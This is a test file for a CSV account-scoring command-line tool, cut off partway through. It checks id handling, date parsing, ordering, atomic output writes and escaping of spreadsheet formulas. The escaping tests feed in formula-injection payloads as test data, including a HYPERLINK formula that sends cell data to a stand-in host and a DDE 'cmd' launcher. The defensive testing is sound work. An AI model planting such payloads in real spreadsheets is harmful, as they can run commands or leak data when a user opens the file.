/**
 * Rows 32-50 of RELIABILITY.md (values, ranking, spreadsheet safety, output files, usage,
 * config), in-process through `main(argv, fakeIo)` or as unit tests of the writer. The
 * large-file rows (43-46, 49) also run against the built binary in large.test.ts.
 * Test names start with the row number.
 */
import { existsSync, linkSync, lstatSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, symlinkSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Chalk } from 'chalk';
import Table from 'cli-table3';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import fc from 'fast-check';
import { beforeAll, describe, expect, it } from 'vitest';
import { main } from '../../src/cli.ts';
import { UsageError } from '../../src/errors.ts';
import type { Io, Sink } from '../../src/io/console.ts';
import { assertNotInput, removeTempFiles, writeFileAtomic } from '../../src/io/output-file.ts';
import { renderTable, truncate } from '../../src/io/render-table.ts';
import { formatCsvRecords } from '../../src/io/write-csv.ts';
import { isNumberCell, parseDate, parseDateFormat } from '../../src/schema/values.ts';
import { fakeIo } from '../helpers/fake-io.ts';
import { KAM, H3, MODEL, revOnly, invalid, lines, REV_ONLY, SUMMARY } from '../helpers/expected-csv.ts';

let dir = '';
beforeAll(() => {
  dir = mkdtempSync(join(tmpdir(), 'kam-rel-out-'));
});

function file(name: string, content: string | Uint8Array): string {
  writeFileSync(join(dir, name), content);
  return name;
}

/** Run kam in-process in the test folder (relative names in messages); `patch` swaps parts of the Io. */
async function kam(args: string[], patch: (io: Io) => Io = (io) => io) {
  const f = fakeIo({ cwd: dir });
  const code = await main(args, patch(f.io));
  return { code, stdout: f.stdout(), stderr: f.stderr() };
}

/** A fresh folder inside the test folder (output-file tests look at its listing). */
function folder(name: string): string {
  const d = join(dir, name);
  mkdirSync(d, { recursive: true });
  return d;
}

const temps = (d: string): string[] => readdirSync(d).filter((n) => n.includes('.kam-tmp-'));
/** What a spreadsheet runs as a formula at the start of a cell (RELIABILITY decision 1). */
const TRIGGER = /^[=+\-@\t\r\n\uFF1D\uFF0B\uFF0D\uFF20]/;
/** A plain number: the one kind of cell that may start with + or - unescaped. */
const NUMBER = /^[+-]?(\d+|\d{1,3}([,.' ]\d{3})+)([.,]\d+)?([eE][+-]?\d+)?%?$/;
/** Invisible characters a spreadsheet skips before a trigger (`\uFEFF=1+1` is a formula). */
const INVISIBLE = /^[\uFEFF\u200B-\u200F\u202A-\u202E\u2060\u2066-\u2069\u061C]*/;
/** Does the cell start a formula, after leading apostrophes and invisible characters? */
const startsFormula = (cell: string): boolean => TRIGGER.test(cell.replace(/^'*/, '').replace(INVISIBLE, ''));
/**
 * The guard's rule (write-csv.ts): a cell starting a formula (after invisible characters), or
 * already carrying a guard, gets one apostrophe, unless it starts with a sign and is a number
 * in the file's grammar (schema/values.ts) that no spreadsheet reads as a reference.
 */
const isGuarded = (cell: string, decimal: '.' | ',' = '.'): boolean =>
  startsFormula(cell) && !(/^[+-]/.test(cell) && !/(?:^|[^0-9A-Za-z])[A-Za-z]+[0-9(]/.test(cell) && isNumberCell(cell, decimal));
/** What the reader makes of a cell: one guard apostrophe removed (read-table.ts). */
const unguarded = (cell: string): string => (cell.startsWith("'") && startsFormula(cell) ? cell.slice(1) : cell);

/**
 * The raw fields of CSV text as a text editor shows them (not unquoted): each with whether
 * it was quoted. RFC 4180: a quoted field runs to the quote not followed by another.
 */
function rawFields(text: string): { raw: string; quoted: boolean }[] {
  const out: { raw: string; quoted: boolean }[] = [];
  let i = 0;
  while (i < text.length) {
    const start = i;
    if (text[i] === '"') {
      i++;
      while (i < text.length && !(text[i] === '"' && text[i + 1] !== '"')) i += text[i] === '"' ? 2 : 1;
      i++;
      out.push({ raw: text.slice(start, i), quoted: true });
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\n') i++;
      out.push({ raw: text.slice(start, i), quoted: false });
    }
    i++; // the ',' or '\n' after the field
  }
  return out;
}

describe('reliability: ids, duplicates, dates, scoring (rows 32-36)', () => {
  it('R32: ids above 2^53 stay text, digit for digit (exit 0)', async () => {
    const f = file('r32.csv', 'account_id,account_name,revenue\n12345678901234567890,Alpha,1\n12345678901234567891,Beta,2\n');
    expect(await kam(['score', f, '--format', 'csv'])).toEqual({
      code: 0,
      stderr: lines(REV_ONLY),
      stdout: lines(H3, `12345678901234567891,Beta,2,${revOnly(1, '75.00')}`, `12345678901234567890,Alpha,1,${revOnly(2, '25.00')}`),
    });
    const json = await kam(['score', f, '--format', 'ndjson']);
    expect(
      json.stdout
        .split('\n')
        .slice(0, 2)
        .map((l) => (JSON.parse(l) as { account_id: string }).account_id),
    ).toEqual(['12345678901234567891', '12345678901234567890']);
    // Two ids that one float would merge stay two accounts.
    expect(Number('12345678901234567890')).toBe(Number('12345678901234567891'));
  });

  it('R33: a duplicate account id rejects the later row, naming both lines (score exit 0; validate and --strict exit 1)', async () => {
    const f = file('r33.csv', 'account_id,account_name,revenue\nA,Alpha,1\nB,Beta,2\nA,Alpha again,3\n');
    const why = "account_id: duplicate account id 'A': first seen at line 2";
    expect(await kam(['score', f, '--format', 'csv'])).toEqual({
      code: 0,
      stderr: lines(`r33.csv:4: ${why}`, SUMMARY(1, 3), REV_ONLY),
      stdout: lines(H3, `B,Beta,2,${revOnly(1, '75.00')}`, `A,Alpha,1,${revOnly(2, '25.00')}`, `A,Alpha again,3${invalid(`line 4: ${why}`)}`),
    });
    const v = await kam(['validate', f]);
    expect(v.code).toBe(1);
    expect(v.stdout.endsWith(`\nr33.csv:4: ${why}\n`)).toBe(true);
    expect((await kam(['score', f, '--strict'])).code).toBe(1);
    // Without an id column the name is the id.
    const byName = file('r33b.csv', 'account_name,revenue\nAlpha,1\nAlpha,2\n');
    const n = await kam(['validate', byName]);
    expect(n.code).toBe(1);
    expect(n.stdout.endsWith("\nr33b.csv:3: account_name: duplicate account name (the file has no id column) 'Alpha': first seen at line 2\n")).toBe(true);
  });

  it('R33: --dedupe is not an option (README differences): exit 2', async () => {
    expect(await kam(['score', 'r33.csv', '--dedupe=first'])).toEqual({
      code: 2,
      stdout: '',
      stderr: "kam: unknown option '--dedupe=first'\n(run with --help for usage)\n",
    });
  });

  it('R34: dates are ISO or an explicit --date-format; 2024-13-01, 03/04/2024 and the serial 45123 are errors with a message', () => {
    expect(parseDate('2024-03-01')).toEqual({ kind: 'value', ok: true, value: 19783 });
    expect(parseDate('2024-03-01T10:00:00Z')).toEqual({ kind: 'value', ok: true, value: 19783 });
    expect(parseDate('2024-13-01')).toEqual({ kind: 'error', message: "'2024-13-01' is not a valid date" });
    expect(parseDate('2024-02-30')).toEqual({ kind: 'error', message: "'2024-02-30' is not a valid date" });
    expect(parseDate('03/04/2024')).toEqual({ kind: 'error', message: "ambiguous date '03/04/2024': pass --date-format M/D/YYYY or D/M/YYYY" });
    expect(parseDate('45123')).toEqual({ kind: 'error', message: "'45123' looks like an Excel date serial; format the column as a date before exporting" });
    expect(parseDate('03/04/2024', parseDateFormat('M/D/YYYY'))).toEqual({ kind: 'value', ok: true, value: 19786 }); // 2024-03-04
    expect(parseDate('03/04/2024', parseDateFormat('D/M/YYYY'))).toEqual({ kind: 'value', ok: true, value: 19816 }); // 2024-04-03
    expect(parseDate('  ')).toEqual({ kind: 'missing' });
  });

  it('R34: --as-of takes an ISO date only: 2024-13-01, 03/04/2024, 45123 are usage errors (exit 2)', async () => {
    const f = file('r34.csv', 'account_id,account_name,revenue\nA,Alpha,1\n');
    for (const bad of ['2024-13-01', '03/04/2024', '45123', '2024-02-30']) {
      expect(await kam(['score', f, '--as-of', bad])).toEqual({ code: 2, stdout: '', stderr: `kam: --as-of: '${bad}' is not a date (use YYYY-MM-DD)\n` });
    }
    expect((await kam(['score', f, '--as-of', '2024-03-01'])).code).toBe(0);
  });

  it('R34: dates in a deals file (--deals): an invalid date or an Excel serial rejects the deal; an undecidable day order stops the run (exit 1)', async () => {
    const acc = file('r34-acc.csv', 'account_id,account_name,potential_revenue\nA,Alpha,500\nB,Beta,400\n');
    const head = 'Id,AccountId,Name,StageName,Amount,IsClosed,IsWon,CloseDate\n';
    const bad = file(
      'r34-deals.csv',
      `${head}1,A,a,Closed Won,100,true,true,2024-13-01\n2,A,b,Closed Won,100,true,true,45123\n3,A,c,Closed Won,100,true,true,2024-03-01\n`,
    );
    const r = await kam(['score', acc, '--deals', bad, '--as-of', '2024-06-30', '--format', 'csv']);
    expect(r.code).toBe(0);
    expect(r.stderr.split('\n').slice(0, 3)).toEqual([
      "r34-deals.csv:2: CloseDate: '2024-13-01' is not a valid date",
      "r34-deals.csv:3: CloseDate: '45123' looks like an Excel date serial; format the column as a date before exporting",
      'kam: deals: 3 read, 1 matched, 0 without an account, 0 unmatched, 2 rejected',
    ]);
    const ambiguous = file('r34-deals2.csv', `${head}1,A,a,Closed Won,100,true,true,03/04/2024\n`);
    expect(await kam(['score', acc, '--deals', ambiguous, '--as-of', '2024-06-30'])).toEqual({
      code: 1,
      stdout: '',
      stderr: lines(
        "kam: r34-deals2.csv: cannot tell the day order of the close dates: '03/04/2024' could be read two ways and no date settles it: pass --date-format M/D/YYYY or D/M/YYYY",
      ),
    });
  });

  it('R35: weights that are all 0 are refused, from --weights and from the config (exit 2)', async () => {
    const f = file('r35.csv', 'account_id,account_name,revenue\nA,Alpha,1\n');
    expect(await kam(['score', f, '--weights', 'volume=0,potential=0,ltv=0,fit=0,strategic=0'])).toEqual({
      code: 2,
      stdout: '',
      stderr: 'kam: --weights: the weights must have a positive sum\n',
    });
    file('r35-zero.json', '{"weights":{"volume":0,"potential":0,"ltv":0,"fit":0,"strategic":0}}');
    expect(await kam(['score', f, '--config', 'r35-zero.json'])).toEqual({
      code: 2,
      stdout: '',
      stderr: 'kam: invalid config r35-zero.json:\n✖ the weights must have a positive sum\n  → at weights\n',
    });
  });

  it('R35: a negative amount rejects the row; a zero denominator (retention 100%, discount 0) leaves LTV missing, never Infinity or NaN (exit 0)', async () => {
    const f = file(
      'r35b.csv',
      'account_id,account_name,revenue,gross_margin,retention_rate,product_fit\nA,Alpha,100,50%,100%,\nB,Beta,200,40%,90%,\nC,Gamma,,,,\nD,Delta,-5,,,\nE,Echo,,,,3\n',
    );
    file('r35-d0.json', '{"discount_rate":0}');
    const r = await kam(['score', f, '--config', 'r35-d0.json', '--format', 'csv']);
    expect(r.code).toBe(0);
    expect(r.stderr).toBe(
      lines(
        'kam: config r35-d0.json applied',
        'r35b.csv:5: revenue: must not be negative (got -5)',
        SUMMARY(1, 5),
        'kam: warning: no column feeds potential, strategic: scores use volume, ltv and fit',
      ),
    );
    // discount_rate 0 is another model than the default: its own kam_model on every row.
    const m = r.stdout.split('\n')[1]!.split(',').at(-1)!;
    expect([m === MODEL, /^v2-[0-9a-f]{8}$/.test(m)]).toEqual([false, true]);
    expect(r.stdout).toBe(
      lines(
        `account_id,account_name,revenue,gross_margin,retention_rate,product_fit,${KAM}`,
        `B,Beta,200,40%,90%,,1,61.11,Unrated,75.00,,50.00,,,61.11,,0.45,low_coverage,,${m}`,
        `E,Echo,,,,3,2,50.00,Unrated,,,,50.00,,,50.00,0.15,low_coverage,,${m}`,
        `A,Alpha,100,50%,100%,,3,25.00,Unrated,25.00,,,,,25.00,,0.20,low_coverage,,${m}`,
        // No measure at all: no score (an empty cell), coverage 0, never NaN.
        `C,Gamma,,,,,4,,Unrated,,,,,,,,0.00,low_coverage,,${m}`,
        `D,Delta,-5,,,${invalid('line 5: revenue: must not be negative (got -5)').replace(MODEL, m)}`,
      ),
    );
    for (const format of ['csv', 'json', 'ndjson', 'md', 'table']) {
      const out = (await kam(['score', f, '--config', 'r35-d0.json', '--format', format])).stdout;
      expect([format, /NaN|Infinity/.test(out)]).toEqual([format, false]);
    }
  });

  it('R36: equal scores are ordered by account_id; the same input gives byte-identical output, whatever the row order', async () => {
    const rows = ['C,Gamma,5', 'A,Alpha,5', 'b,beta,5', 'B,Beta,5', 'Z,Zulu,9'];
    const f1 = file('r36a.csv', `account_id,account_name,revenue\n${rows.join('\n')}\n`);
    const f2 = file('r36b.csv', `account_id,account_name,revenue\n${[...rows].reverse().join('\n')}\n`);
    const a = await kam(['score', f1, '--format', 'csv']);
    expect(a).toEqual({
      code: 0,
      stderr: lines(REV_ONLY),
      stdout: lines(
        H3,
        `Z,Zulu,9,${revOnly(1, '90.00')}`,
        `A,Alpha,5,${revOnly(2, '40.00')}`,
        `B,Beta,5,${revOnly(3, '40.00')}`,
        `C,Gamma,5,${revOnly(4, '40.00')}`,
        `b,beta,5,${revOnly(5, '40.00')}`,
      ),
    });
    expect((await kam(['score', f1, '--format', 'csv'])).stdout).toBe(a.stdout);
    expect((await kam(['score', f2, '--format', 'csv'])).stdout).toBe(a.stdout);
  });
});

describe('reliability: spreadsheet safety (rows 37-39)', () => {
  const payloads = [
    ['A1', '=HYPERLINK("http://x?"&A1)', '@SUM(1)', '-4%'],
    ['A2', '+cmd', '-2+3', '-3.5'],
    ['A3', '\ttab', '\nlf', '5%'],
    ['A4', '\uFF1D1+1', 'a",=1+1', '1%'],
    ['A5', '-Minus', 'x,=1+1', '2%'],
    // The CR payload sits in a text column other than the name: a CR in a name rejects the row (issue 11).
    ['A6', '\uFF20at', '\rcr', '3%'],
    ['A7', '\uFF0Bplus', '\uFF0Dminus', '+4%'],
  ] as const;
  // Quoted, so the lone CR of A6 is inside a field (kam reads a bare CR as a line end).
  const input = stringify([['account_id', 'account_name', 'note', 'growth_rate'], ...payloads.map((p) => [...p])], { record_delimiter: 'unix', quoted: true });
  /** What each payload row must read back as, after a spreadsheet-safe write. */
  const escaped = [
    ['A1', `'=HYPERLINK("http://x?"&A1)`, `'@SUM(1)`, '-4%'],
    ['A2', `'+cmd`, `'-2+3`, '-3.5'],
    ['A3', `'\ttab`, `'\nlf`, '5%'],
    ['A4', `'\uFF1D1+1`, 'a",=1+1', '1%'],
    ['A5', `'-Minus`, 'x,=1+1', '2%'],
    ['A6', `'\uFF20at`, `'\rcr`, '3%'],
    ['A7', `'\uFF0Bplus`, `'\uFF0Dminus`, '+4%'],
  ];

  it('R37: formula payloads in original columns get a leading apostrophe and RFC quotes; re-parsed, every cell reads back (exit 0)', async () => {
    const f = file('r37.csv', input);
    const r = await kam(['score', f, '--format', 'csv']);
    expect({ code: r.code, stderr: r.stderr }).toEqual({
      code: 0,
      stderr: lines('kam: warning: no column feeds volume, ltv, fit, strategic: scores use potential alone'),
    });
    const records = parse(r.stdout, { relax_column_count: false });
    expect(records).toHaveLength(8);
    const byId = new Map(records.slice(1).map((rec) => [rec[0], rec.slice(0, 4)]));
    expect(escaped.map((e) => byId.get(e[0]))).toEqual(escaped);
    // As a text editor shows it: no field starts with a trigger unless it is a plain number,
    // and every escaped field is quoted.
    for (const { raw, quoted } of rawFields(r.stdout)) {
      if (!quoted) expect([raw, TRIGGER.test(raw) && !NUMBER.test(raw)]).toEqual([raw, false]);
      else if (raw.startsWith(`"'`)) expect(TRIGGER.test(raw.slice(2))).toBe(true);
    }
    expect(r.stdout).toContain(`A6,"'\uFF20at","'\rcr",`);
    expect(r.stdout).toContain(`A2,"'+cmd","'-2+3",-3.5,`);
  });

  it('R37: the --rejects file is escaped the same way', async () => {
    const f = file('r37b.csv', "account_id,account_name,revenue\nA,=cmd|' /C calc'!A0,abc\nB,@SUM(1),-1\nC,Fine,3\n");
    const rejects = join(dir, 'r37-rejects.csv');
    const r = await kam(['score', f, '--rejects', rejects, '--format', 'csv']);
    expect(r.code).toBe(0);
    expect(readFileSync(rejects, 'utf8')).toBe(
      lines(
        'account_id,account_name,revenue,kam_line,kam_errors',
        `A,"'=cmd|' /C calc'!A0",abc,2,line 2: revenue: 'abc' is not an amount`,
        `B,"'@SUM(1)",-1,3,line 3: revenue: must not be negative (got -1)`,
      ),
    );
  });

  it('R37: property: any text cell written by kam re-parses to itself, with one apostrophe more when it starts a formula or carries a guard (a guard in the input is read away)', async () => {
    const unit = fc.constantFrom(
      '=',
      '+',
      '-',
      '@',
      '\t',
      '\r',
      '\n',
      '\uFF1D',
      '\uFF0B',
      '\uFF0D',
      '\uFF20',
      '"',
      ',',
      ';',
      "'",
      'a',
      'Z',
      '1',
      '.',
      ' ',
      '%',
      'é',
      '\u202E',
    );
    const cell = fc.string({ unit, minLength: 1, maxLength: 8 });
    // A CR in a name rejects the row (issue 11), so names take every unit but CR; notes take CR too.
    const name = fc.string({ unit: unit.filter((u) => u !== '\r'), minLength: 1, maxLength: 8 });
    await fc.assert(
      fc.asyncProperty(fc.array(fc.tuple(name, cell), { minLength: 1, maxLength: 6 }), async (rows) => {
        const text = stringify([['account_id', 'account_name', 'note', 'revenue'], ...rows.map(([name, note], i) => [`K${i}`, name, note, String(i + 1)])], {
          quoted: true,
          record_delimiter: 'unix',
        });
        writeFileSync(join(dir, 'r37-prop.csv'), text);
        const r = await kam(['score', 'r37-prop.csv', '--format', 'csv', '--delimiter', ',']);
        expect(r.code).toBe(0);
        const back = new Map(
          parse(r.stdout, { relax_column_count: false })
            .slice(1)
            .map((rec) => [rec[0], rec]),
        );
        rows.forEach(([name, note], i) => {
          const rec = back.get(`K${i}`)!;
          for (const [given, written] of [
            [name, rec[1]],
            [note, rec[2]],
          ] as const) {
            // The reader removes a guard the input carries; the writer adds one where it must.
            const plain = unguarded(given);
            expect(written).toBe(isGuarded(plain) ? `'${plain}` : plain);
          }
        });
        for (const { raw, quoted } of rawFields(r.stdout)) if (!quoted) expect(isGuarded(raw)).toBe(false);
      }),
      { numRuns: 60, seed: 37 },
    );
  });

  it('R38: a cell-breakout attempt (a",=1+1 and x,=1+1) stays in one cell under RFC 4180 quoting', async () => {
    const r = await kam(['score', file('r38.csv', input), '--format', 'csv']);
    const records = parse(r.stdout, { relax_column_count: false });
    expect(records.every((rec) => rec.length === 18)).toBe(true);
    expect(r.stdout).toContain('A4,"\'\uFF1D1+1","a"",=1+1",1%,');
    expect(r.stdout).toContain('A5,"\'-Minus","x,=1+1",2%,');
    // No field of the output, as written, begins with '='.
    expect(rawFields(r.stdout).filter((x) => x.raw.startsWith('='))).toEqual([]);
  });

  it('R39: negative numbers stay numbers (-3.5, -4%, a diff delta -50.00%), never apostrophe-prefixed; --no-escape-formulas opts out of guarding', async () => {
    const r = await kam(['score', file('r39.csv', input), '--format', 'csv']);
    expect(r.stdout).toContain('A1,"\'=HYPERLINK(""http://x?""&A1)","\'@SUM(1)",-4%,');
    expect(r.stdout).toContain(',-3.5,');
    const before = file('r39-before.csv', 'account_id,account_name,revenue\nA,Alpha,200\nB,Beta,100\n');
    const after = file('r39-after.csv', 'account_id,account_name,revenue\nA,Alpha,100\nB,Beta,100\n');
    expect(await kam(['diff', before, after, '--format', 'csv'])).toEqual({
      code: 0,
      // Said once for both files (issue 10 item 3).
      stderr: lines('kam: r39-before.csv, r39-after.csv: ' + REV_ONLY.slice('kam: '.length)),
      stdout: lines('change,account_id,account_name,from,to,detail', 'revenue,A,Alpha,200,100,-50.00%', 'revenue_total,,,300,200,2 matched accounts; -33.33%'),
    });
    const raw = await kam(['score', 'r39.csv', '--format', 'csv', '--no-escape-formulas']);
    const records = parse(raw.stdout, { relax_column_count: false });
    const byId = new Map(records.slice(1).map((rec) => [rec[0], rec.slice(0, 4)]));
    expect(payloads.map((p) => byId.get(p[0]))).toEqual(payloads.map((p) => [...p]));
    expect(raw.stdout).toContain('A2,+cmd,-2+3,-3.5,');
  });

  it('R39: unit: formatCsvRecords quotes what it guards and leaves numbers bare', () => {
    expect(formatCsvRecords([['-3.5', '-4%', '+1,234.50', '-1e5', '=1', '-x', '\rcr', 'a\rb']], { escapeFormulas: true })).toBe(
      `-3.5,-4%,"+1,234.50",-1e5,"'=1","'-x","'\rcr","a\rb"\n`,
    );
    expect(formatCsvRecords([['=1', '-x', '\rcr']], { escapeFormulas: false })).toBe('=1,-x,"\rcr"\n');
  });
});

describe('reliability: output files (rows 40-43)', () => {
  it('R40: an output path that is the input (same path, ./ path, symlink, hard link) is refused, the input untouched (exit 2)', async () => {
    const d = folder('r40');
    const content = 'account_id,account_name,revenue\nA,Alpha,1\n';
    const input = join(d, 'in.csv');
    writeFileSync(input, content);
    symlinkSync(input, join(d, 'link.csv'));
    linkSync(input, join(d, 'hard.csv'));
    for (const out of [input, join(d, '.', 'in.csv'), join(d, 'link.csv'), join(d, 'hard.csv')]) {
      expect(await kam(['score', input, '-o', out])).toEqual({
        code: 2,
        stdout: '',
        stderr: lines(REV_ONLY, `kam: refusing to write -o ${out}: it is the accounts file ${input} (output would overwrite input)`),
      });
    }
    // Through the link as the input, and the input as --rejects.
    expect((await kam(['score', join(d, 'link.csv'), '-o', input])).code).toBe(2);
    expect(await kam(['score', input, '--rejects', join(d, 'hard.csv')])).toEqual({
      code: 2,
      stdout: '',
      stderr: lines(REV_ONLY, `kam: refusing to write --rejects ${join(d, 'hard.csv')}: it is the accounts file ${input} (output would overwrite input)`),
    });
    expect(readFileSync(input, 'utf8')).toBe(content);
    expect(lstatSync(join(d, 'link.csv')).isSymbolicLink()).toBe(true);
    expect(temps(d)).toEqual([]);
    // Relative names are taken from the given working folder, and named as given.
    expect(() => {
      assertNotInput('link.csv', 'in.csv', d);
    }).toThrow(new UsageError('refusing to write link.csv: it is the input file (output would overwrite input)'));
    await expect(writeFileAtomic('hard.csv', (sink) => sink.write('x'), './in.csv', d)).rejects.toThrow(
      'refusing to write hard.csv: it is the input file (output would overwrite input)',
    );
    await writeFileAtomic('other.csv', (sink) => sink.write('x\n'), 'in.csv', d);
    expect(readFileSync(join(d, 'other.csv'), 'utf8')).toBe('x\n');
    expect(readFileSync(input, 'utf8')).toBe(content);
  });

  it('R41: an output folder that is missing, a path through a file (ENOTDIR), a dangling link: "cannot create", exit 2, no temp file', async () => {
    const d = folder('r41');
    const input = join(d, 'in.csv');
    writeFileSync(input, 'account_id,account_name,revenue\nA,Alpha,1\n');
    writeFileSync(join(d, 'somefile.txt'), 'a file\n');
    symlinkSync(join(d, 'nowhere', 'x.csv'), join(d, 'dangling.csv'));
    for (const [out, why] of [
      [join(d, 'somefile.txt', 'out.csv'), 'ENOTDIR (a part of the path is not a directory)'],
      [join(d, 'missing', 'weekly.csv'), 'ENOENT (no such file or directory)'],
      [join(d, 'dangling.csv'), 'ENOENT (no such file or directory)'],
    ] as const) {
      expect(await kam(['score', input, '-o', out])).toEqual({ code: 2, stdout: '', stderr: lines(REV_ONLY, `kam: cannot create ${out}: ${why}`) });
      expect(await kam(['score', input, '--rejects', out])).toEqual({ code: 2, stdout: '', stderr: lines(REV_ONLY, `kam: cannot create ${out}: ${why}`) });
    }
    expect(readdirSync(d).sort()).toEqual(['dangling.csv', 'in.csv', 'somefile.txt']);
    expect(lstatSync(join(d, 'dangling.csv')).isSymbolicLink()).toBe(true);
  });

  it('R41: an output that is a symbolic link to a file updates the file it points to; the link stays a link', async () => {
    const d = folder('r41b');
    const input = join(d, 'in.csv');
    writeFileSync(input, 'account_id,account_name,revenue\nA,Alpha,1\n');
    mkdirSync(join(d, 'reports'));
    writeFileSync(join(d, 'reports', 'weekly.csv'), 'previous\n');
    symlinkSync(join('reports', 'weekly.csv'), join(d, 'latest.csv'));
    const r = await kam(['score', input, '-o', join(d, 'latest.csv')]);
    expect(r.code).toBe(0);
    expect(readFileSync(join(d, 'reports', 'weekly.csv'), 'utf8')).toBe(lines(H3, `A,Alpha,1,${revOnly(1, '50.00')}`));
    expect(lstatSync(join(d, 'latest.csv')).isSymbolicLink()).toBe(true);
    expect([...temps(d), ...temps(join(d, 'reports'))]).toEqual([]);
  });

  it('R42: disk full mid-write (ENOSPC): the temp file is deleted, the previous output unchanged, the error names path and errno', async () => {
    const d = folder('r42');
    const out = join(d, 'out.csv');
    writeFileSync(out, 'previous complete version\n');
    let sawTemp: string[] = [];
    const failing = writeFileAtomic(out, async (sink: Sink) => {
      await sink.write('account_id,account_name\n'.repeat(1000));
      sawTemp = temps(d);
      throw Object.assign(new Error('ENOSPC: no space left on device, write'), { code: 'ENOSPC', errno: -28, syscall: 'write' });
    });
    await expect(failing).rejects.toThrow(new UsageError(`cannot write ${out}: ENOSPC (no space left on device)`));
    await expect(failing).rejects.toBeInstanceOf(UsageError);
    expect(sawTemp).toHaveLength(1);
    expect(sawTemp[0]!.startsWith(`.out.csv.kam-tmp-${process.pid}-`)).toBe(true);
    expect(readFileSync(out, 'utf8')).toBe('previous complete version\n');
    expect(temps(d)).toEqual([]);
    // An EIO the same way; UsageError is exit 2 in main.
    await expect(
      writeFileAtomic(out, async () => {
        throw Object.assign(new Error('EIO'), { code: 'EIO' });
      }),
    ).rejects.toThrow(`cannot write ${out}: EIO (input/output error)`);
    expect(new UsageError('x').exitCode).toBe(2);
    expect(readFileSync(out, 'utf8')).toBe('previous complete version\n');
    expect(temps(d)).toEqual([]);
  });

  it("R43: the signal handlers' clean-up (removeTempFiles) mid-write removes the temp file; the destination stays the previous version", async () => {
    const d = folder('r43');
    const out = join(d, 'out.csv');
    writeFileSync(out, 'previous\n');
    let during: string[] = [];
    let after: string[] = [];
    await expect(
      writeFileAtomic(out, async (sink) => {
        await sink.write('half a file');
        during = temps(d);
        removeTempFiles(); // what bin/kam.js does on SIGINT/SIGTERM before exiting 130/143
        after = temps(d);
        throw Object.assign(new Error('interrupted'), { code: 'EINTR' });
      }),
    ).rejects.toThrow(`cannot write ${out}: EINTR (interrupted)`);
    expect([during.length, after]).toEqual([1, []]);
    expect(readFileSync(out, 'utf8')).toBe('previous\n');
  });

  it('R43: the next run sweeps temp files a killed run left (older than a minute); a fresh one (a live run) stays', async () => {
    const d = folder('r43b');
    const out = join(d, 'out.csv');
    const stale = join(d, '.out.csv.kam-tmp-99999-deadbeef');
    const live = join(d, '.out.csv.kam-tmp-99998-cafecafe');
    const other = join(d, '.other.csv.kam-tmp-99999-deadbeef');
    for (const t of [stale, live, other]) writeFileSync(t, 'partial');
    const old = new Date(Date.now() - 5 * 60_000);
    utimesSync(stale, old, old);
    utimesSync(other, old, old);
    await writeFileAtomic(out, (sink) => sink.write('new\n'));
    expect(readFileSync(out, 'utf8')).toBe('new\n');
    expect(temps(d).sort()).toEqual(['.other.csv.kam-tmp-99999-deadbeef', '.out.csv.kam-tmp-99998-cafecafe']);
  });
});

describe('reliability: pipes, overlap, config, usage, size, unicode (rows 44-50)', () => {
  it('R44: a reader that goes away after the first chunk stops the run quietly: exit 0, nothing on stderr', async () => {
    let writes = 0;
    const closing: Sink = {
      get closed() {
        return writes >= 1;
      },
      async write() {
        writes++;
      },
    };
    const rows = Array.from({ length: 5000 }, (_, i) => `K${i},Name ${i},${i + 1}`).join('\n');
    const f = file('r44.csv', `account_id,account_name,revenue\n${rows}\n`);
    for (const format of ['csv', 'ndjson', 'json']) {
      writes = 0;
      const r = await kam(['score', f, '--format', format], (io) => ({ ...io, stdout: closing }));
      expect({ format, code: r.code, stderr: r.stderr, writes }).toEqual({ format, code: 0, stderr: lines(REV_ONLY), writes: 1 });
    }
  });

  it('R45: stdout gets the whole output in order through a sink that applies backpressure (exit 0)', async () => {
    const chunks: string[] = [];
    const slow: Sink = {
      closed: false,
      async write(chunk: string) {
        await new Promise<void>((resolve) => setImmediate(resolve));
        chunks.push(chunk);
      },
    };
    const rows = Array.from({ length: 6000 }, (_, i) => `K${String(i).padStart(5, '0')},Name ${i},${(i % 97) + 1}`).join('\n');
    const f = file('r45.csv', `account_id,account_name,revenue\n${rows}\n`);
    const r = await kam(['score', f, '--format', 'csv'], (io) => ({ ...io, stdout: slow }));
    expect({ code: r.code, stderr: r.stderr }).toEqual({ code: 0, stderr: lines(REV_ONLY) });
    const outFile = join(dir, 'r45-out.csv');
    expect((await kam(['score', f, '-o', outFile])).code).toBe(0);
    expect(chunks.join('')).toBe(readFileSync(outFile, 'utf8'));
    expect(chunks.join('').split('\n')).toHaveLength(6002);
  });

  it('R46: two overlapping runs writing the same output: the file is one whole output, no temp file remains (exit 0 both)', async () => {
    const d = folder('r46');
    const rows = Array.from({ length: 4000 }, (_, i) => `K${i},Name ${i},${i + 1}`).join('\n');
    const input = join(d, 'in.csv');
    writeFileSync(input, `account_id,account_name,revenue\n${rows}\n`);
    const single = (await kam(['score', input, '--format', 'csv'])).stdout;
    const out = join(d, 'out.csv');
    const [a, b] = await Promise.all([kam(['score', input, '-o', out]), kam(['score', input, '-o', out])]);
    expect([a.code, b.code]).toEqual([0, 0]);
    expect(readFileSync(out, 'utf8')).toBe(single);
    expect(temps(d)).toEqual([]);
  });

  it('R47: an invalid config lists each problem with its JSON path; an unknown key (typo) is an error (exit 2)', async () => {
    const f = file('r47.csv', 'account_id,account_name,revenue\nA,Alpha,1\n');
    file('r47-bad.json', '{"wieghts":{"volume":1},"weights":{"volume":"x"},"tier_cut":"high"}');
    expect(await kam(['score', f, '--config', 'r47-bad.json'])).toEqual({
      code: 2,
      stdout: '',
      stderr: lines(
        'kam: invalid config r47-bad.json:',
        '✖ Unrecognized key: "wieghts"',
        '✖ Invalid input: expected number, received string',
        '  → at tier_cut',
        '✖ Invalid input: expected number, received string',
        '  → at weights.volume',
      ),
    });
    file('r47-syntax.json', '{bad json');
    // The rest of the line is Node's own JSON.parse message, which differs across Node versions.
    expect(await kam(['score', f, '--config', 'r47-syntax.json'])).toMatchObject({
      code: 2,
      stdout: '',
      stderr: expect.stringMatching(/^kam: config r47-syntax\.json:1:2 is not valid JSON: .*position 1.*\n$/) as unknown,
    });
    expect(await kam(['validate', f, '--config', 'nope.json'])).toEqual({ code: 2, stdout: '', stderr: 'kam: cannot read config nope.json: ENOENT\n' });
  });

  it('R47: weights that do not sum to 1 are relative and renormalised (README differences); 0.5 each scores like 0.2 each (exit 0)', async () => {
